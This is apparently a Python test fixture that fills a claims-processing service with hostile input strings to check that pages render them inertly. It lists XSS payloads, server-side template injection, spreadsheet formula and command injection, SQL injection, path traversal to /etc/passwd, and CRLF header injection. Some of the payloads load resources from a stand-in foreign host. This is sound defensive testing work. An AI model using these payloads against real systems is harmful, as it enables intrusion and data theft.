"""Strings that people may write into names, file names, papers and reasons to make a page do something.

Here: the strings, and a service filled with them. Not here: what must not happen (test_hostile_text.py). Whatever
runs sets `window.ran`, opens a dialog, or asks a foreign host.
"""

import io
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import date
from pathlib import Path

from intake.access.who import Bound, Role, Who
from intake.replay import blank_png
from storage.objects.base import Area, chunks_of
from storage.records import claims, documents, flags, obligations, pages, rechecks
from storage.records.obligations import NewObligation
from storage.records.pages import PageRaster
from storage.records.rechecks import Chosen
from tests.builders import leaf, make_proof, make_record, make_slip, make_voucher, row, seal, signature
from tests.desk import CLERK, HANDLER, OFFICE, RISK, SECOND, Desk, open_desk, worker_of
from validators.model.evidence import DocumentReading

RUN = "window.ran=1"
FAR = "//foreign.example"
_TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={FAR}/a.js></script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={FAR}/a.png>",
    f"<img/src/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src={FAR}/></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={FAR}/a.swf>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<link rel=stylesheet href={FAR}/a.css>",
    f"<style>@import '{FAR}/a.css';</style>",
    "<style>*{display:none}</style>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<form action={FAR}><button autofocus>x</button></form>",
    f"<a href=javascript:{RUN}>x</a>",
    "<plaintext>",
    "<!--",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><script>window.ran=1</script></template>",
    "<table><tr><td>x",
    "</main></body></html>",
)
_ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} x="',
    f"` onerror={RUN}",
    '" style="position:fixed;inset:0;background:red',
    "x onclick=window.ran=1",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#115;cript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "{%",
    "{{",
    "${7*7}",
    "${{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(x)s %d %n",
    "{0.__class__}",
    "`${alert(1)}`",
    "constructor",
    "__proto__",
    "toString",
)
_SIGNS = (
    "\u202eabc 123\u202c",
    "\u202dabc\u202c",
    "\u2066abc\u2069",
    "\u200f\u200eabc",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u2028line\u2029part",
    "مرحبا بالعالم",
    "שלום עולם 123",
    "👨\u200d👩\u200d👧\u200d👦",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "❤️‍🔥 ☠️",
    "Z̸͓͖̺̥͙͚̊̀̀͗a̶̰̓l̷͔̉g̷̤̽o",
    "\U0001f1e8\U0001f1f3",
    "𠮷𡃁𪚥",
    "﷽﷽﷽",
    "ﬁ Ⅷ ① ㎏ ｱ",
    "ا" * 90,
    "W" * 150,
    "长" * 150,
    "-" * 150,
)
_OTHERS = (
    "=1+1",
    '=HYPERLINK("http://foreign.example","x")',
    "+1-1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "' OR 1=1 --",
    "'; DROP TABLE claims; --",
    '" OR ""="',
    "1); SELECT pg_sleep(9); --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "C:\\con\\aux.png",
    f"http:{FAR}/x",
    "%00%0d%0aSet-Cookie:%20x=1",
    "x\\ny",
    "NaN",
    "null",
    "undefined",
    "[object Object]",
    "-0",
    "1e309",
    "<>&\"'`/\\",
)
STRINGS: tuple[str, ...] = _TAGS + _ATTRIBUTES + _TEMPLATES + _SIGNS + _OTHERS
# Where control characters are taken too: file names, what a machine read, reasons.
WITH_CONTROLS: tuple[str, ...] = (
    *STRINGS,
    "a\x00b<script>window.ran=1</script>",
    "x\r\ny\tz\x1b[31m",
    "\x7f\x80\x9f",
    "x" * 4000,
)
_NAME_ROOM = 200  # of a record's name
_PAPERS = 8
_DUTIES = ("PASS_ON_DUE", "PROOF_DUE", "PASS_ON_OVERDUE", "PROOF_IN_REVIEW")


@dataclass(slots=True)
class Hostile:
    """The home folder of a service full of such strings, and what exists in it by parameter."""

    home: Path
    known: dict[str, list[str]] = field(default_factory=dict)

    def callers(self) -> dict[Role, list[Who]]:
        """Somebody of each role, a submitter of each kind."""
        people = {role: [Who(f"<b>{role.value}</b>", role, Bound(office=OFFICE))] for role in Role}
        people[Role.SUBMITTER] = [CLERK, worker_of(self.known["claim_no"][0])]
        return people

    def known_to(self, who: Who | None) -> dict[str, list[str]]:
        """What exists for somebody to open: a worker's own paper is the last, the others are the firm's."""
        if who is None or who.bound.claim is None:
            return self.known
        return {**self.known, "document_id": self.known["document_id"][-1:]}


def names() -> Iterator[str]:
    """All strings as names of a record: as many to a name as have room."""
    taken = ""
    for text in STRINGS:
        clean = "".join(char for char in text if char.isprintable())[:_NAME_ROOM]
        if len(taken) + len(clean) + 1 > _NAME_ROOM:
            yield taken
            taken = ""
        taken = f"{taken} {clean}".strip()
    yield taken


def fill(home: Path) -> Hostile:
    """Fill a new home folder; every string stands in a name, a file's name, what was read, and a reason."""
    desk, made = open_desk(home, date(2021, 9, 1)), Hostile(home)
    every = list(names())
    for number in range(0, len(every), 2):
        claim_no = f"X-{number}"
        record = make_record()
        worker = replace(record.worker, name=every[number])
        employer = replace(record.employer, name=every[(number + 1) % len(every)])
        desk.register(replace(record, claim_no=claim_no, office=OFFICE, worker=worker, employer=employer))
        made.known.setdefault("claim_no", []).append(claim_no)
    first = made.known["claim_no"][0]
    for who in (CLERK, worker_of(first)):
        for part in range(_PAPERS if who is CLERK else 1):
            made.known.setdefault("document_id", []).extend(desk.bring(who, first, paper(part, who.subject)))
    _show(desk, made.known["document_id"])
    _say(desk, made, first)
    desk.service.close()
    return made


def paper(part: int, salt: str) -> DocumentReading:
    """A paper whose file name, values and marks are the strings of one part of all."""
    mine = WITH_CONTROLS[part::_PAPERS]
    made = (make_voucher(), make_slip(), make_proof())[part % 3]
    fields = {
        name: replace(one, value=text, raw=text) for (name, one), text in zip(made.fields.items(), mine, strict=False)
    }
    rows = {"lines": tuple(row(item=text, payee=text, receipt_no=text[:60]) for text in mine)}
    marks = tuple(replace(mark(text), text=text) for text in mine for mark in (signature, seal))
    lists = {"sign_dates": tuple(leaf(text, sure=False, raw=text) for text in mine)}
    return replace(
        made,
        file=" ".join(mine)[:2000],
        sha256=f"{salt}-{part}",
        fields=made.fields | fields,
        rows=rows,
        marks=marks,
        lists=lists,
    )


def _show(desk: Desk, ids: Sequence[str]) -> None:
    """Give each paper a raster, as reading would."""
    with desk.service.database.write() as session:
        for number, document in enumerate(ids):
            png = desk.service.objects.put(chunks_of(io.BytesIO(blank_png(60, 90))), 10_000, Area.DERIVED)
            pages.save_pages(session, document, [PageRaster(0, png.sha256, 60, 90)])
            found = documents.find(session, document)
            assert found is not None
            if number == 1 and found.state != "RETURNED":
                documents.move(session, document, found.state, "RETURNED", desk.now[0])


def _say(desk: Desk, made: Hostile, claim_no: str) -> None:
    """Reasons, objections, keyed values and proposals in those words, and duties."""
    sayings = [" ".join(WITH_CONTROLS[number::4])[:1900] for number in range(4)]
    with desk.service.database.read() as session:
        found = flags.of_claim(session, claim_no)
    for number, flag in enumerate(found[:8]):
        made.known.setdefault("flag_id", []).append(flag.id)
        desk.post(HANDLER, f"/v1/flags/{flag.id}/take")
        desk.post(HANDLER, f"/v1/flags/{flag.id}/escalate", {"reason": sayings[number % 4]})
    for saying in sayings:
        body = {"by": saying[:180], "channel": saying[:60], "reason": saying}
        desk.post(HANDLER, f"/v1/claims/{claim_no}/objections", body)
    desk.post(RISK, "/v1/freezes", {"scope": "claim", "value": claim_no, "reason": sayings[0]})
    keyed = {"value": STRINGS[0], "reason": sayings[1], "page": 0, "box": [1, 1, 9, 9]}
    desk.call(HANDLER, "PUT", f"/v1/documents/{made.known['document_id'][0]}/fields/worker_name", keyed)
    proposal = {"item": "MEDICAL", "payee": "EMPLOYER", "cap_fen": 0, "reasons": sayings}
    answer = desk.post(HANDLER, f"/v1/claims/{claim_no}/decisions", proposal)
    assert answer.status_code == 201, answer.text
    made.known["decision_id"] = [answer.json()["id"]]
    desk.post(SECOND, f"/v1/decisions/{made.known['decision_id'][0]}/return", {"reason": sayings[2]})
    answer = desk.post(HANDLER, f"/v1/claims/{claim_no}/decisions", proposal)
    made.known["decision_id"].append(answer.json()["id"])
    with desk.service.database.write() as session:
        rechecks.add(session, Chosen(made.known["document_id"][0], "employer_name", OFFICE, "-", "-"), desk.now[0])
        head = claims.find_head(session, claim_no)
        assert head is not None
        for state in _DUTIES:
            new = NewObligation(
                claim_no, "MEDICAL", None, f"{state:0>64}", head.employer_digest, 1, date(2021, 8, 20), state
            )
            made.known.setdefault("obligation_id", []).append(str(obligations.add(session, new, desk.now[0])))
